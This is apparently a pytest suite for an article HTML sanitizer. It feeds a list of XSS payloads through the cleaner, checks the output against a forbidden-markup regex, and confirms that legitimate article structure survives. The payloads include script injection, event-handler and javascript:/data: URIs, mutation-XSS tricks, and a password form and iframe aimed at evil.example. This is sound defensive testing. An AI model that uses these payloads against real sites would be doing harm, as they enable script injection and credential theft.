"""The HTML policy for article bodies: what survives, what never does."""

import re
from html.parser import HTMLParser

import pytest

from articles.text import sanitize

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<p onclick=\"alert(1)\" onmouseover=\"alert(1)\">text</p>",
    "<p style=\"background:url(javascript:alert(1))\">text</p>",
    "<style>body{display:none}</style>",
    "<iframe src=\"https://evil.example/\">fallback</iframe>",
    "<form action=\"https://evil.example/\"><input name=password><button>send</button></form>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
    "<body onload=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<div><!--<script>alert(1)</script>--></div>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">ok</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
]
FORBIDDEN = re.compile(r"<script|<style|<iframe|<form|<input|<svg|<math|<object|<embed|<meta|<base|<link|"
                       r"\bon\w+=|javascript:|data:|style=|target=|opener\"", re.IGNORECASE)


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the markup."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser.found


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_markup_is_neutralised(payload):
    cleaned = sanitize.clean_html(payload)
    assert not FORBIDDEN.search(cleaned), cleaned
    for tag, attrs in elements(cleaned):
        assert tag in sanitize.ALLOWED_TAGS, cleaned
        allowed = sanitize.ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, cleaned
        for name in ("href", "src", "cite"):
            value = (attrs.get(name) or "").strip().lower()
            assert not value or value.startswith(("https:", "http:", "mailto:", "/", "#")) or ":" not in value


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_cleaning_is_idempotent(payload):
    once = sanitize.clean_html(payload)
    assert sanitize.clean_html(once) == once


def test_script_style_and_iframe_content_is_dropped_not_shown_as_text():
    cleaned = sanitize.clean_html(
        "<p>保留</p><script>alert('x')</script><style>p{}</style><iframe>框內</iframe><form>表單</form>"
    )
    assert cleaned == "<p>保留</p>"


def test_article_structure_survives():
    body = (
        "<h2>標題</h2><h3>小標</h3><p>段落<strong>粗體</strong><em>斜體</em><br>換行</p>"
        "<ul><li>一</li></ul><ol start=\"3\"><li>三</li></ol><blockquote cite=\"https://a.example/\">引言</blockquote>"
        "<figure><img src=\"https://cdn.example/a.jpg\" alt=\"圖\" width=\"640\" height=\"360\">"
        "<figcaption>圖說</figcaption></figure>"
        "<table><thead><tr><th scope=\"col\">欄</th></tr></thead><tbody><tr><td colspan=\"2\">值</td></tr></tbody>"
        "</table><pre><code class=\"language-python\">print(1)</code></pre>"
    )
    cleaned = sanitize.clean_html(body)
    for fragment in ("<h2>標題</h2>", "<h3>小標</h3>", "<strong>粗體</strong>", "<ul><li>一</li></ul>",
                     "<ol start=\"3\">", "<blockquote cite=\"https://a.example/\">", "<figcaption>圖說</figcaption>",
                     "<img src=\"https://cdn.example/a.jpg\" alt=\"圖\" width=\"640\" height=\"360\">",
                     "<th scope=\"col\">欄</th>", "<td colspan=\"2\">值</td>",
                     "<code class=\"language-python\">print(1)</code>"):
        assert fragment in cleaned


def test_h1_is_reserved_for_the_page_title():
    assert sanitize.clean_html("<h1>大標</h1>") == "大標"


def test_links_to_other_sites_get_nofollow_noopener():
    cleaned = sanitize.clean_html('<a href="https://elsewhere.example/x" rel="follow" target="_blank">外站</a>')
    rel = re.search(r'rel="([^"]+)"', cleaned).group(1).split()
    assert {"nofollow", "noopener"} <= set(rel)
    assert "target" not in cleaned and "follow\"" not in cleaned.replace("nofollow", "")


def test_code_keeps_only_highlighter_classes_and_sizes_only_numbers():
    cleaned = sanitize.clean_html('<code class="language-js share-button">x</code><img src="/a.png" width="100%">')
    assert '<code class="language-js">' in cleaned
    assert "share-button" not in cleaned and "width" not in cleaned


def test_plain_text_drops_markup_and_script_content_and_resolves_entities():
    assert sanitize.plain_text("<b>AT&amp;T</b> <script>alert(1)</script>1 &lt; 2") == "AT&T 1 < 2"
    assert sanitize.plain_text("") == ""
